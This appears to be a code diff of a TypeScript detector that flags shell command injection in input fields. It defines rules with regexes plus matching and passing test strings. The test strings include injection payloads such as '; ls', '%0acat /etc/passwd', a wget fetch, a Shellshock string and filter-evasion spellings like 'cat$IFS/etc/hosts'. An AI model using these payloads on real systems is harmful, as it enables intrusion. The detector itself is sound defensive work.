@@ -1,7 +1,7 @@
 /** Where a value would begin a second command in a shell, or give a program an option: as rules. */
-import { commandAt, type Certainty } from './command-line.js'
-import { programOf } from './commands.js'
-import { EVERYWHERE, NOT_FREE, firstMatch, type Kind, type Span, type Structure } from './structure.js'
+import { isCommandLine } from './command-line.js'
+import { encodedLine, secondCommand, substitution } from './shell-scan.js'
+import { EVERYWHERE, NOT_FREE, firstMatch, type Structure } from './structure.js'
 
 export const SHELL_STRUCTURES: readonly Structure[] = [
   {
@@ -9,7 +9,7 @@ export const SHELL_STRUCTURES: readonly Structure[] = [
     what: 'starts a second command',
     why: 'a separator that is followed by a program and its operand is a command line to whatever shell gets the value',
     kinds: EVERYWHERE,
-    near: ';|&\n\r^<>\\',
+    near: [';', '|', '&', '\n', '\r', '^', '<', '>', '!', '\\'],
     find: secondCommand,
     matches: [
       'main; ls -l /tmp',
@@ -22,10 +22,12 @@ export const SHELL_STRUCTURES: readonly Structure[] = [
       "x;w'h'oami",
       '& type C:\\Windows\\win.ini',
       'x || sleep 10',
+      'abc123&id',
     ],
     passes: [
       'a;b',
       'AT&T',
+      'R&PS',
       'team & friends',
       'salt & cat',
       'name;id;type',
@@ -45,7 +47,7 @@ export const SHELL_STRUCTURES: readonly Structure[] = [
     what: 'begins a command behind an encoded line end',
     why: 'a line end is only encoded where something is to decode it after the check',
     kinds: EVERYWHERE,
-    near: '%',
+    near: ['%0', '%25'],
     find: encodedLine,
     matches: ['%0acat%20/etc/passwd', 'x%0D%0Awhoami%0D', '%0Aenv%0A', '%250Aid', '%0a ping -c 3 127.0.0.1 %0a'],
     passes: ['100%0 identical', 'a%0Ab', 'line%0Aend', '%20cat'],
@@ -55,7 +57,7 @@ export const SHELL_STRUCTURES: readonly Structure[] = [
     what: "puts a command's output in its place",
     why: 'a shell runs what stands between `$(` and `)`, between backticks and in `<(…)` before anything else',
     kinds: NOT_FREE,
-    near: '`$<>',
+    near: ['`', '$(', '<(', '>('],
     find: substitution,
     matches: [
       '$(id)',
@@ -69,11 +71,91 @@ export const SHELL_STRUCTURES: readonly Structure[] = [
     passes: ['$(NAME)', '`users`', '$5', 'a<(b)', 'cost $(5)', '${id}', '$(env.HOME)'],
   },
   {
+    id: 'shell.command-line',
+    what: 'is a command line',
+    why: 'a program with its operands, where a name should be, is meant for a shell',
+    kinds: NOT_FREE,
+    near: [' ', '/', '\t', '$'],
+    find: (text) => (isCommandLine(text) ? { from: 0, to: text.length } : undefined),
+    matches: [
+      'cat /etc/hosts',
+      'ls -la',
+      '/usr/bin/id',
+      'wget http://203.0.113.7/x',
+      'nslookup x.example.com',
+      "w'h'oami -x",
+      'find /etc -name x',
+    ],
+    passes: [
+      'node 18',
+      'python 3.11',
+      'cat',
+      'git',
+      'test name',
+      'find & replace',
+      'php',
+      'curl',
+      'sort order',
+      'make it so',
+      'time -1',
+      'bin/x',
+      'cut here',
+      'cats /dogs',
+    ],
+  },
+  {
+    id: 'shell.disguise',
+    what: 'is spelled as only a shell would read it',
+    why: 'empty quotes, globs for letters, brace lists and carets inside a word are there to get past a check',
+    kinds: NOT_FREE,
+    near: ['``', '{', '?', '^', '$', '%', '\\'],
+    find: (text) =>
+      firstMatch(
+        /[A-Za-z]``[A-Za-z]|\{[a-z]{2,12},[^{},]{0,4}[-/.\d$][^{}]{0,60}\}|\/[\w?*]{0,6}\?[\w?*]{0,6}\/[\w?*]{0,8}\?|(?:\^[A-Za-z]){3}|[A-Za-z]\$[@*][A-Za-z]|\$'(?:\\x[0-9a-f]{2}|\\\d{3}){2}|%\w{1,30}:~-?\d{1,3},-?\d{1,3}%|\$\{?0\}?(?:$|[\s|<])|(?:\\[a-z]){5}/i,
+        text,
+      ),
+    matches: [
+      'who``ami',
+      '{cat,/etc/hosts}',
+      '/???/??t',
+      '^w^h^o^a^m^i',
+      'w$@hoami',
+      "$'\\x69\\x64'",
+      '%TEMP:~0,1%',
+      'echo x|$0',
+      'w\\h\\o\\a\\m\\i',
+    ],
+    passes: ['{a,b}', 'src/*.{ts,tsx}', 'a?b/c?', '^abc', '$5', 'US$@5', '%TEMP%', '$0.50', 'C:\\a\\b', '{id, name}'],
+  },
+  {
+    id: 'shell.keyword',
+    what: 'holds a compound command of a shell',
+    why: 'a condition or a loop around commands is a program',
+    kinds: NOT_FREE,
+    near: ['if [', 'while [', 'until [', 'if $(', 'while $(', ';', 'in $'],
+    find: (text) =>
+      firstMatch(/\b(?:if|while|until) {1,3}(?:\[|\$\()|; ?(?:then|do|fi|done|esac)\b ?[^\s=]|\bfor \w{1,20} in \$/, text),
+    matches: ['time if [ 1 ]; then sleep 5; fi', 'while [ 1 ]', 'for i in $(ls)', 'x; then y'],
+    passes: ['if (x)', 'for each', 'while you wait', 'do; redo'],
+  },
+  {
+    id: 'shell.variables',
+    what: 'sets a variable and runs what it holds',
+    why: 'a command that is put together from variables is hidden from whoever reads it',
+    kinds: EVERYWHERE,
+    near: ['$'],
+    find: (text) =>
+      firstMatch(/\b([A-Za-z_]\w{0,15})=[^\s;&|=]{1,40}[;&|]{1,2} ?\$\{?\1\b/, text) ??
+      firstMatch(/\b(?:([A-Za-z_]\w{0,15})=[^\s;&|=]{1,20};){2,4} ?\$\w/, text),
+    matches: ['a=id;$a', 'x;c=whoami&&${c}', 'a=c;b=at;$a$b'],
+    passes: ['a=b;c=d', 'a=1;b=$2', 'x=5; $5', 'page=1&size=$n'],
+  },
+  {
     id: 'shell.assigned',
     what: 'puts a command into a variable',
     why: "what is assigned in a shell's quoting and then named runs as a command",
     kinds: EVERYWHERE,
-    near: '$',
+    near: ['=$', '=\\$'],
     find: (text) => firstMatch(/\b[A-Za-z_]\w{0,31}=\\?\$\\?["'(]/, text),
     matches: ["&CMD=$'id';$CMD", 'x;A=$"env";$A', '^CMD=$\\"id\\";$CMD'],
     passes: ['a=$5', 'name=value', 'price=$HOME', "x='$5'"],
@@ -83,7 +165,7 @@ export const SHELL_STRUCTURES: readonly Structure[] = [
     what: "uses a shell's own variables in place of characters",
     why: 'nobody spells a blank or a slash as `${IFS}` or `${HOME:0:1}` but to get past a check',
     kinds: EVERYWHERE,
-    near: '$',
+    near: ['$IFS', '${'],
     find: (text) => firstMatch(/\$\{?IFS\b|\$\{[A-Z_]{2,32}:\d{1,3}:\d{1,3}\}/, text),
     matches: ['cat$IFS/etc/hosts', 'x${IFS}y', '${HOME:0:1}etc'],
     passes: ['${HOME}', '$IF', '${VAR:-x}', 'SIFS'],
@@ -93,7 +175,7 @@ export const SHELL_STRUCTURES: readonly Structure[] = [
     what: 'defines a shell function in the form that old shells run from their environment',
     why: 'Shellshock: CVE-2014-6271',
     kinds: EVERYWHERE,
-    near: '(',
+    near: ['() {', '(){', '()  {'],
     find: (text) => firstMatch(/\(\) {0,4}\{ {0,4}(?::|_;|[^\s{}]{1,8};) {0,4};? {0,4}\}/, text),
     matches: ['() { :;}; /bin/true', 'x() { :; }; id'],
     passes: ['f() {}', 'function() { return 1 }', '() => {}'],
@@ -103,10 +185,13 @@ export const SHELL_STRUCTURES: readonly Structure[] = [
     what: 'redirects to or from a file',
     why: 'a shell opens, and empties, what stands behind `>`',
     kinds: NOT_FREE,
-    near: '<>',
+    near: ['<', '>'],
     find: (text) =>
-      firstMatch(/(?:[0-9&]?>{1,2}|<) ?(?:\/(?:dev|etc|tmp|var|proc|root|home|usr|bin|opt)\/|[A-Za-z]:\\|&\d)|<<</, text),
-    matches: ['x > /tmp/out', 'x>/dev/null', 'x 2>&1', '< /etc/passwd', 'xxd <<< 2f65'],
+      firstMatch(
+        /[\w)"'] ?>{1,2} ?[\w./-]{1,40}\.(?:php|sh|txt|html?|log|bat|exe|jsp|aspx?|py)\b|(?:[0-9&]?>{1,2}|<) ?(?:\/(?:dev|etc|tmp|var|proc|root|home|usr|bin|opt)\/|[A-Za-z]:\\|&\d)|<<</,
+        text,
+      ),
+    matches: ['x > /tmp/out', 'x>out.txt', 'x>/dev/null', 'x 2>&1', '< /etc/passwd', 'xxd <<< 2f65'],
     passes: ['x > y', '>=1.2', 'a -> b', '<b>', 'a<b', 'List<String>', 'a >> b'],
   },
   {
@@ -114,7 +199,7 @@ export const SHELL_STRUCTURES: readonly Structure[] = [
     what: 'hands a program to an interpreter',
     why: 'a shell or an interpreter with `-c` or `-e` runs whatever stands behind it',
     kinds: NOT_FREE,
-    near: '-/',
+    near: [' -', ' /'],
     find: (text) =>
       firstMatch(
         /\b(?:(?:ba|da|z|k|c|tc)?sh|python[23]?|perl|ruby|php|node|pwsh|lua) {1,4}-{1,2}(?:[ceErl]|eval|ic|lc|exec)\b|\b(?:cmd(?:\.exe)?|powershell(?:\.exe)?) {1,4}[/-](?:[ck]|e\w{0,20}|command|nop\w{0,8}|w\w{0,12})\b/i,
@@ -128,132 +213,9 @@ export const SHELL_STRUCTURES: readonly Structure[] = [
     what: 'names a transport that runs a command',
     why: 'git hands what follows `ext::` to a shell, `fd::` reads from an open descriptor',
     kinds: EVERYWHERE,
-    near: ':',
+    near: ['::'],
     find: (text) => firstMatch(/(?:^|[^A-Za-z])(?:ext|fd)::[^\s:]/, text) ?? firstMatch(/ext::(?:sh|bash|\/)/, text),
     matches: ['ext::sh -c id', 'abc123ext::sh -c x'],
     passes: ['std::string', 'text::Value', 'context::get', 'fd::', 'next::page'],
   },
 ]
-
-/** After which characters a shell begins a new command, and how sure that is in a name. */
-function certaintyAt(text: string, at: number, kind: Kind): Certainty | undefined {
-  const code = text.charCodeAt(at)
-  const doubled = text.charCodeAt(at + 1) === code
-  switch (code) {
-    case 0x26: // &
-      return doubled ? 'hard' : 'soft'
-    case 0x7c: // |
-      return doubled ? 'hard' : 'medium'
-    case 0x3b: // ;
-      return 'medium'
-    case 0x0a:
-    case 0x0d:
-      return kind === 'prose' || kind === 'query' ? undefined : 'medium'
-    case 0x5e: // ^
-    case 0x3c: // <
-    case 0x3e: // >
-      return kind === 'name' ? 'soft' : undefined
-    case 0x5c: // the two characters \n
-      return kind === 'name' && /[nr]/.test(text.charAt(at + 1)) ? 'soft' : undefined
-    default:
-      return undefined
-  }
-}
-
-function secondCommand(text: string, kind: Kind): Span | undefined {
-  if (kind === 'prose' || kind === 'query') return commandInProse(text)
-  if (LIST.test(text) && !text.split(/[;|,]/).some((word) => programOf(word.trim())?.word === false)) return undefined
-  for (let at = 0; at < text.length; at += 1) {
-    const certainty = certaintyAt(text, at, kind)
-    if (certainty === undefined) continue
-    const begin = behindSeparators(text, at)
-    const end = commandAt(
-      text,
-      begin,
-      begin - at > 1 && certainty === 'soft' && text.charCodeAt(at) === 0x26 ? 'medium' : certainty,
-    )
-    if (end !== undefined) return { from: at, to: end }
-    at = begin - 1
-  }
-  return undefined
-}
-
-/** Plain words between one kind of separator are a list of columns, of names, of labels. */
-const LIST = /^[\w.-]{1,64}(?:; ?[\w.-]{1,64}){2,63}$|^[\w.-]{1,64}(?:\|[\w.-]{1,64}){2,63}$/
-
-function behindSeparators(text: string, at: number): number {
-  if (text.charCodeAt(at) === 0x5c) return at + 2
-  let end = at + 1
-  while (end < text.length && SEPARATORS.has(text.charAt(end))) end += 1
-  return end
-}
-const SEPARATORS: ReadonlySet<string> = new Set(';|&\n\r')
-
-/**
- * In a sentence a separator stands between blanks or behind a word. What begins with one, or is glued to it on both sides,
- * and is a command up to the end of the text, is no sentence.
- */
-function commandInProse(text: string): Span | undefined {
-  const open = SEPARATORS.has(text.charAt(text.length - 1)) ? commandAt(text, 0, 'medium') : undefined
-  if (open !== undefined) return { from: 0, to: open }
-  for (let at = 0; at < text.length; at += 1) {
-    const certainty = certaintyAt(text, at, 'prose')
-    if (certainty === undefined) continue
-    const begin = behindSeparators(text, at)
-    if (at === 0 || (isGlued(text, at, begin) && !inCode(text, at))) {
-      const end = commandAt(text, begin, certainty)
-      if (end !== undefined) return { from: at, to: end }
-    }
-    at = begin - 1
-  }
-  return undefined
-}
-
-function isGlued(text: string, at: number, begin: number): boolean {
-  return text.charAt(at - 1) !== ' ' && (text.charAt(begin) !== ' ' || '&|'.includes(text.charAt(at)))
-}
-
-function encodedLine(text: string): Span | undefined {
-  for (let at = text.indexOf('%0'); at >= 0; at = text.indexOf('%0', at + 2)) {
-    if (!/[ad]/i.test(text.charAt(at + 2))) continue
-    const after = text.slice(at + 3, at + 3 + ENCODED).replace(/^(?:%(?:25)?0[ad])+/i, '')
-    const plain = after.replaceAll(/%(?:25)?20|\+/g, ' ').replaceAll(/%(?:25)?2f/gi, '/')
-    const line = plain.replaceAll(/%(?:25)?0[ad]/gi, '\n')
-    if (commandAt(line, 0, 'hard') !== undefined) return { from: at, to: at + 3 + Math.min(after.length, 12) }
-  }
-  const twice = /%250[ad]/i.exec(text)
-  return twice === null ? undefined : encodedLine(text.slice(twice.index).replaceAll('%25', '%'))
-}
-/** Of what stands behind an encoded line end, as far as it is read. */
-const ENCODED = 48
-
-/** Between backticks of Markdown. */
-function inCode(text: string, at: number): boolean {
-  const before = text.lastIndexOf('`', at)
-  return before >= 0 && text.includes('`', at)
-}
-
-function substitution(text: string): Span | undefined {
-  for (let at = 0; at < text.length; at += 1) {
-    const code = text.charCodeAt(at)
-    const end = code === 0x60 ? quotedCommand(text, at) : isSubstitution(text, at) ? substituted(text, at + 2) : undefined
-    if (end !== undefined) return { from: at, to: end }
-  }
-  return undefined
-}
-
-const isSubstitution = (text: string, at: number): boolean => text.charCodeAt(at + 1) === 0x28 && '$<>'.includes(text.charAt(at))
-
-/** Between backticks stand names too: only a command counts. */
-function quotedCommand(text: string, at: number): number | undefined {
-  const end = commandAt(text, at + 1, 'hard')
-  return end !== undefined && text.includes('`', at + 1) ? end : undefined
-}
-
-/** `$(NAME)` is a variable to many tools; an empty one is only good for hiding. */
-function substituted(text: string, at: number): number | undefined {
-  const next = text.charAt(at)
-  if (next === ')' && text.charAt(at - 2) === '$') return at + 1
-  if (next === '<' && /^< ?[/~.\w]/.test(text.slice(at, at + 3))) return at + 2
-  return commandAt(text, at, 'hard')
-}
